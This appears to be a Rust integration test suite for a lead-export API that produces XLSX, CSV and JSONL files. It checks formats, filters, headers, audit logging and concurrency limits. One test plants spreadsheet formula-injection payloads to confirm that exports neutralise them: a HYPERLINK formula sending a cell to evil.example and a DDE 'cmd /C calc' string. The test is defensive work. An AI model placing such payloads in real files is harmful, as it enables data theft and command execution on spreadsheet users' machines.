//! `/leads/export.…`: whole lists as files, as programs and a signed-in owner get them.

use std::time::Duration;

use chatimjd::{
    domain::{
        account::Scope,
        business::Business,
        capture::{Facts, Field},
        lead::Lead,
    },
    server::state::EXPORTS_AT_A_TIME,
    service::ports::{AuditEntry, LeadTrace, LeadWrite},
};
use reqwest::{Method, header::HeaderMap};
use serde_json::{Value, json};

use crate::{
    contract::people,
    harness::{KEY, TestApp, Workbook},
    rpc::desk::Desk,
};

const FORMATS: [&str; 3] = ["xlsx", "csv", "jsonl"];

pub struct File {
    headers: HeaderMap,
    pub bytes: Vec<u8>,
}

impl File {
    pub fn header(&self, name: &str) -> &str {
        self.headers.get(name).map_or("", |value| value.to_str().expect("text"))
    }

    pub fn text(&self) -> &str {
        std::str::from_utf8(&self.bytes).expect("text")
    }

    pub fn csv(&self) -> Vec<Vec<String>> {
        read_csv(self.text())
    }

    pub fn lines(&self) -> Vec<Value> {
        self.text().lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
    }
}

/// The file at `/leads/export.{what}`.
async fn file(app: &TestApp, what: &str) -> File {
    file_at(app, &format!("/leads/export.{what}")).await
}

pub async fn file_at(app: &TestApp, path: &str) -> File {
    let response = app.request(Method::GET, path).bearer_auth(KEY).send().await.expect("an answer");
    assert_eq!(response.status(), 200, "{path}");
    let headers = response.headers().clone();
    File { headers, bytes: response.bytes().await.expect("a whole body").into() }
}

/// RFC 4180, strictly.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (vec![], vec![], String::new());
    let (mut is_quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match c {
            '"' if is_quoted && chars.peek() == Some(&'"') => field.extend(chars.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut field)),
            '\r' if !is_quoted => {
                assert_eq!(chars.next(), Some('\n'), "lines end in CR LF");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            c => field.push(c),
        }
    }
    assert!(!is_quoted && row.is_empty() && field.is_empty(), "the last line ends, too");
    rows
}

/// The cell of the only lead under this heading.
pub fn under<'a>(rows: &'a [Vec<String>], heading: &str) -> &'a str {
    let at = rows[0].iter().position(|known| known == heading).unwrap_or_else(|| panic!("no {heading} in {:?}", rows[0]));
    rows[1].get(at).map_or("", String::as_str)
}

pub async fn add(app: &TestApp, body: Value) -> Value {
    let answer = app.call(Method::POST, "/leads", Some(&body)).await;
    assert_eq!(answer.status, 201, "{}", answer.text);
    answer.json()["data"]["lead"].clone()
}

pub async fn in_karachi() -> TestApp {
    let app = TestApp::start().await;
    let business = Business { time_zone: "Asia/Karachi".into(), ..Business::default() };
    app.state.desk.save_business(&TestApp::owner(), business, 0).await.expect("saved");
    app
}

/// So many people called Lima, who have a lot to say.
pub async fn crowd(app: &TestApp, count: u128) {
    let one = |n: u128| {
        let facts: Facts = [people::fact(Field::Name, &format!("Lima {n}"), &people::message_id(n, 1))].into_iter().collect();
        let created_at = people::at(i64::try_from(n).expect("small"));
        let lead = Lead { notes: Some("अ".repeat(4_000)), created_at, updated_at: created_at, ..people::lead(n, &facts) };
        app.state.leads.write(LeadWrite { lead, trace: LeadTrace::default(), restored: None })
    };
    for start in (1..=count).step_by(50) {
        let writes = (start..=count.min(start + 49)).map(one);
        futures::future::try_join_all(writes).await.expect("written");
    }
}

/// Lines of the audit log about exports, latest first.
pub async fn exported(app: &TestApp) -> Vec<AuditEntry> {
    let lines = app.state.audit.latest(100).await.expect("read");
    lines.into_iter().filter(|line| line.action.ends_with(".exported")).collect()
}

#[tokio::test]
async fn a_lead_is_the_same_in_every_format_in_the_time_of_the_business() {
    let app = in_karachi().await;
    let body = json!({ "name": "Ana Lima", "email": "ana@example.com", "phone": "+92 300 1234567", "company": "Lima & Co, <Lisbon>",
        "notes": "two\nlines, \"quoted\"", "status": "meeting_scheduled", "custom": { "size": "XL" }, "follow_up_at": "2026-12-01T20:30:00Z" });
    let lead = add(&app, body).await;
    let id = lead["id"].as_str().expect("an id");
    let link = format!("http://desk.test/admin/leads?lead={id}");

    let listed = app.call(Method::GET, "/leads", None).await.data()["items"].clone();
    assert_eq!(Value::from(file(&app, "jsonl").await.lines()), listed, "the very shape of the list");

    let rows = file(&app, "csv").await.csv();
    assert_eq!(rows.len(), 2);
    for (heading, value) in [
        ("id", id),
        ("name", "Ana Lima"),
        ("email", "ana@example.com"),
        ("phone", "'+923001234567"),
        ("company", "Lima & Co, <Lisbon>"),
        ("notes", "two\nlines, \"quoted\""),
        ("status", "meeting_scheduled"),
        ("custom", "size: XL"),
        ("channel", "api"),
        ("follow_up_at", "2026-12-02T01:30:00+05:00"),
        ("link", link.as_str()),
    ] {
        assert_eq!(under(&rows, heading), value, "{heading}");
    }
    let created: jiff::Timestamp = under(&rows, "created_at").parse().expect("a time");
    assert_eq!(created.as_second(), lead["created_at"].as_str().expect("a time").parse::<jiff::Timestamp>().expect("a time").as_second());

    let mut workbook = Workbook::read(file(&app, "xlsx").await.bytes);
    let rows = workbook.rows();
    assert_eq!(rows.len(), 2);
    for (heading, value) in [
        ("Name", "Ana Lima"),
        ("E-mail", "ana@example.com"),
        ("Phone", "+923001234567"),
        ("Company", "Lima & Co, <Lisbon>"),
        ("Status", "Meeting scheduled"),
        ("Channel", "API"),
        // 2 December 2026, 01:30.
        ("Follow-up (Asia/Karachi)", "46358.0625"),
        ("Id", id),
    ] {
        assert_eq!(under(&rows, heading), value, "{heading}");
    }
    let sheet = workbook.part("xl/worksheets/sheet1.xml");
    assert!(sheet.contains(r#"state="frozen""#) && sheet.contains(r#"<autoFilter ref="A1:U2"/>"#) && sheet.contains("<cols>"), "{sheet}");
    let links = workbook.part("xl/worksheets/_rels/sheet1.xml.rels");
    assert!(links.contains("mailto:ana@example.com") && links.contains(&link), "{links}");
}

#[tokio::test]
async fn a_file_is_an_attachment_of_the_day_where_the_business_is() {
    let app = in_karachi().await;
    let day = || app.state.clock.now().in_tz("Asia/Karachi").expect("a zone").date().to_string();
    for (format, kind) in [
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("csv", "text/csv; charset=utf-8"),
        ("jsonl", "application/x-ndjson; charset=utf-8"),
    ] {
        let before = day();
        let file = file(&app, format).await;
        let names = [before, day()].map(|day| format!("attachment; filename=\"leads-{day}.{format}\""));
        assert!(names.iter().any(|name| name == file.header("content-disposition")), "{:?}", file.headers);
        assert_eq!((file.header("content-type"), file.header("cache-control")), (kind, "no-store"));
        assert_eq!(file.header("x-content-type-options"), "nosniff");
    }
    assert_eq!(file(&app, "jsonl").await.text(), "", "nobody yet");
    assert_eq!(file(&app, "csv").await.csv().len(), 1, "the head");
    let marked = file(&app, "csv?bom=true").await;
    assert!(marked.text().starts_with("\u{feff}name,email,") && file(&app, "csv?bom=false").await.text().starts_with("name,"));
    let head = app.send(app.request(Method::HEAD, "/leads/export.csv").bearer_auth(KEY)).await;
    assert_eq!((head.status, head.text.as_str(), head.header("content-type")), (200, "", "text/csv; charset=utf-8"));
}

#[tokio::test]
async fn a_file_has_the_filters_and_the_order_of_the_list() {
    let app = TestApp::start().await;
    for (name, status, due) in [("Ana", "new", "2020-01-01T00:00:00Z"), ("Ben", "won", "2090-01-01T00:00:00Z"), ("Cleo", "won", "")] {
        let due = Some(due).filter(|due| !due.is_empty());
        add(&app, json!({ "name": name, "status": status, "follow_up_at": due })).await;
    }
    for (query, wanted) in [
        ("sort=name", vec!["Ana", "Ben", "Cleo"]),
        ("sort=-name", vec!["Cleo", "Ben", "Ana"]),
        ("", vec!["Cleo", "Ben", "Ana"]),
        ("status=won&sort=name", vec!["Ben", "Cleo"]),
        ("q=ben", vec!["Ben"]),
        ("due=overdue", vec!["Ana"]),
        ("due=all&sort=name", vec!["Ana", "Ben"]),
        ("channel=whatsapp", vec![]),
        ("to=2020-01-01T00:00:00Z", vec![]),
    ] {
        let names: Vec<String> = file(&app, &format!("jsonl?{query}"))
            .await
            .lines()
            .iter()
            .map(|lead| lead["name"].as_str().expect("a name").to_owned())
            .collect();
        assert_eq!(names, wanted, "{query}");
        let first = |rows: Vec<Vec<String>>| rows.into_iter().skip(1).map(|row| row[0].clone()).collect::<Vec<_>>();
        assert_eq!(first(file(&app, &format!("csv?{query}")).await.csv()), wanted, "{query}");
        assert_eq!(first(Workbook::read(file(&app, &format!("xlsx?{query}")).await.bytes).rows()), wanted, "{query}");
    }
}

#[tokio::test]
async fn no_cell_is_a_formula() {
    let app = TestApp::start().await;
    let evil = ["=HYPERLINK(\"http://evil.example?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"];
    for (n, text) in evil.iter().enumerate() {
        add(&app, json!({ "name": format!("Ana {}", ["a", "b", "c", "d", "e"][n]), "company": text, "interest": text, "budget": text, "timeline": text,
            "notes": text, "custom": { (*text): text } }))
            .await;
    }
    for row in file(&app, "csv").await.csv() {
        for cell in row {
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '\t', '\r']), "{cell:?}");
        }
    }
    let companies: Vec<Value> = file(&app, "jsonl?sort=name").await.lines().iter().map(|lead| lead["company"].clone()).collect();
    assert_eq!(companies, evil, "JSON is for programs: it is as it was typed");
    let mut workbook = Workbook::read(file(&app, "xlsx?sort=name").await.bytes);
    let sheet = workbook.part("xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
    let rows = workbook.rows();
    let at = rows[0].iter().position(|heading| heading == "Company").expect("a column");
    assert_eq!(rows[1..].iter().map(|row| row[at].as_str()).collect::<Vec<_>>(), evil, "text, as it was typed");
}

#[tokio::test]
async fn a_long_list_is_whole_and_who_stops_reading_stops_it() {
    let app = TestApp::start().await;
    crowd(&app, 1_050).await;
    // More than one page, and more than one search looks at.
    for what in ["jsonl", "jsonl?q=lima", "jsonl?sort=created_at"] {
        let ids: Vec<String> = file(&app, what).await.lines().iter().map(|lead| lead["id"].as_str().expect("an id").to_owned()).collect();
        let mut sorted = ids.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!((ids.len(), sorted.len()), (1_050, 1_050), "{what}");
        let is_rising = what.ends_with("=created_at");
        assert!(if is_rising { ids == sorted } else { ids.iter().eq(sorted.iter().rev()) }, "{what}");
    }
    assert_eq!(file(&app, "csv?q=lima").await.csv().len(), 1_051);
    assert_eq!(Workbook::read(file(&app, "xlsx").await.bytes).rows().len(), 1_051);
    let told: Vec<_> = exported(&app).await.into_iter().filter_map(|line| line.target).collect();
    assert_eq!(told, ["xlsx, 1050 leads", "csv, 1050 leads", "jsonl, 1050 leads", "jsonl, 1050 leads", "jsonl, 1050 leads"]);

    let unread = app.request(Method::GET, "/leads/export.jsonl").bearer_auth(KEY).send().await.expect("an answer");
    drop(unread);
    // All seats are free again: it has ended.
    let seats = app.state.export_seats.acquire_many(u32::try_from(EXPORTS_AT_A_TIME).expect("few"));
    let _seats = tokio::time::timeout(Duration::from_secs(20), seats).await.expect("in time").expect("open");
    let last = exported(&app).await.remove(0).target.expect("words");
    assert!(last.starts_with("jsonl, ") && last.ends_with(", broken off"), "{last}");
}

#[tokio::test]
async fn every_wrong_question_is_refused_before_anything_goes_out() {
    let app = TestApp::start().await;
    let long = format!("q={}", "x".repeat(201));
    for format in FORMATS {
        for (query, field) in [
            ("stauts=won", "stauts"),
            ("status=hot", "status"),
            ("limit=10", "limit"),
            ("cursor=x", "cursor"),
            ("format=legacy", "format"),
            ("sort=id", "sort"),
            ("due=soon", "due"),
            ("bom=maybe", "bom"),
            (long.as_str(), "q"),
        ] {
            let answer = app.call(Method::GET, &format!("/leads/export.{format}?{query}"), None).await;
            answer.assert_error(422, "invalid_fields");
            assert!(!answer.field(field).is_empty(), "{format} {query}: {}", answer.text);
            assert_eq!(answer.header("content-disposition"), "");
        }
        let path = format!("/leads/export.{format}");
        app.get(&path).await.assert_error(401, "unauthorized");
        app.call(Method::POST, &path, None).await.assert_error(405, "method_not_allowed");
        let (key, _) = app.state.keys.create(&TestApp::owner(), "a chat", vec![Scope::Chat]).await.expect("a key");
        app.send(app.request(Method::GET, &path).bearer_auth(key)).await.assert_error(403, "forbidden");
    }
    app.call(Method::GET, "/leads/export.pdf", None).await.assert_error(404, "not_found");
    assert_eq!(exported(&app).await, vec![]);
}

#[tokio::test]
async fn too_many_exports_at_once_are_told_to_come_back() {
    let app = TestApp::start().await;
    let seats = app.state.export_seats.clone();
    let all = seats.acquire_many(u32::try_from(EXPORTS_AT_A_TIME).expect("few")).await.expect("open");
    for format in FORMATS {
        let answer = app.call(Method::GET, &format!("/leads/export.{format}"), None).await;
        answer.assert_error(503, "unavailable");
        assert_eq!(answer.header("retry-after"), "5");
    }
    drop(all);
    for format in FORMATS {
        file(&app, format).await;
    }
}

#[tokio::test]
async fn the_audit_log_knows_who_took_how_many() {
    let desk = Desk::open().await;
    add(&desk, json!({ "name": "Ana" })).await;
    file(&desk, "csv").await;
    let ana = desk.signed_in().await;
    let page = ana.get("/leads/export.jsonl?q=nobody").await.ok();
    assert_eq!(page.text, "");
    let (key, info) = desk.state.keys.create(&TestApp::owner(), "a table", vec![Scope::LeadsRead]).await.expect("a key");
    let read = desk.request(Method::GET, "/leads/export.xlsx").bearer_auth(key).send().await.expect("an answer");
    assert_eq!(read.status(), 200);
    let lines = exported(&desk).await;
    let told: Vec<_> = lines.iter().map(|line| (line.target.as_deref().unwrap_or_default(), line.address.as_deref())).collect();
    assert_eq!(told, [("xlsx, 1 leads", Some("127.0.0.1")), ("jsonl, 0 leads", Some("127.0.0.1")), ("csv, 1 leads", Some("127.0.0.1"))]);
    assert_eq!((lines[0].actor.as_str(), lines[2].actor.as_str()), (info.id.as_str(), "environment"));
    assert!(lines[1].actor.starts_with("adm_"), "{:?}", lines[1]);
}

#[tokio::test]
async fn the_page_of_leads_links_to_the_files_of_what_it_shows() {
    let desk = Desk::open().await;
    let ana = desk.signed_in().await;
    let page = ana.call(Method::GET, "/admin/leads?q=lima&status=won&sort=-score").accept("text/html").send().await.ok();
    for (name, rest) in [("xlsx", ""), ("csv", "&amp;bom=true"), ("jsonl", "")] {
        let link = format!("href=\"/leads/export.{name}?status=won&amp;q=lima&amp;sort=-score{rest}\"");
        assert!(page.text.contains(&link), "{link}");
        ana.get(&format!("/leads/export.{name}?status=won&q=lima&sort=-score{}", rest.replace("&amp;", "&"))).await.ok();
    }
}
